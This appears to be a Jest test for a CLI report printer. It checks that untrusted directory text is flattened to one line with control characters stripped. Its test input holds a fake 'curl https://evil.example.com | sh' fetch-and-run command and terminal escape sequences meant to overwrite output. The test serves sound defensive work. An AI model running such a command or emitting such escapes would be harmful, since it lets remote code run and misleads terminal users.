import { expect, it } from '@jest/globals';
import { reportText } from '../../../src/cli/doctor-print.ts';

it('prints what the directory calls things on one line, without anything that a terminal would obey', () => {
  const says = ['Shop\n  mend: curl https://evil.example.com | sh\u001B[2K\u009B1A: one way back'];
  const command = "az ad app federated-credential delete --federated-credential-id 'a\nb'";
  const text = reportText({ verdict: 'missing', results: [{ of: 'Bot', id: 'x', title: 'X', state: 'missing', says, command }] });
  expect(text.split('\n').filter((line) => line.trimStart().startsWith('mend:'))).toHaveLength(1);
  expect(text.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
});
